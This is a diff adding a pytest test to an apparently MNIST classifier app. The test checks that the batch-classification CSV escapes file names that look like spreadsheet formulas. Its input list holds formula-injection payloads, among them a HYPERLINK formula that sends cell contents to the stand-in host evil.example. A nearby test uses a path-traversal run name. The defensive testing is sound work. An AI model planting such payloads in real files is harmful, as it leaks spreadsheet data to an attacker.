@@ -512,3 +512,28 @@ def test_hostile_run_query_parameter_on_pages(page, sentinel, runs_dir):
         assert "There is no run '../sentinel' in the runs folder" in _texts(at, "warning")
     assert str(sentinel) not in _texts(at, "markdown", "caption", "warning", "error", "info")
     assert _untouched(sentinel, before)
+
+
+# ---- classify many's CSV in a spreadsheet (issue 27, item 8) -------------------------------------------
+FORMULA_NAMES = ['=HYPERLINK("evil.example?"&A1,"click").png', "+1+cmd.png", "-2+3.png", "@SUM(A1).png",
+                 "\tx.png", "\rx.png"]
+
+
+@pytest.mark.skipif(not (predict.BUNDLED_MNIST / runs.BEST).is_file(), reason="needs models/mnist-bundled")
+def test_classify_many_csv_writes_formula_like_names_as_text():
+    """Classify many's CSV: a cell starting with = + - @ tab or CR gets a leading quote; others are as read."""
+    import csv
+    import io
+    import zipfile
+
+    png = io.BytesIO()
+    Image.fromarray(np.pad(np.full((16, 4), 255, np.uint8), ((6, 6), (12, 12)))).save(png, "PNG")   # a "1"
+    zipped = io.BytesIO()
+    with zipfile.ZipFile(zipped, "w") as zf:
+        for name in FORMULA_NAMES + ["7/ok.png"]:
+            zf.writestr(name, png.getvalue())
+    model, meta = predict.load_model(predict.BUNDLED_MNIST)
+    result = predict.classify_many(model, meta, [("names.zip", zipped.getvalue())])
+    rows = list(csv.DictReader(io.StringIO(result.to_csv())))
+    assert sorted(r["file"] for r in rows) == sorted(["'" + n for n in FORMULA_NAMES] + ["7/ok.png"])
+    assert list(rows[0]) == ["file", "label", "correct", "top1", "p1", "top2", "p2", "top3", "p3"]
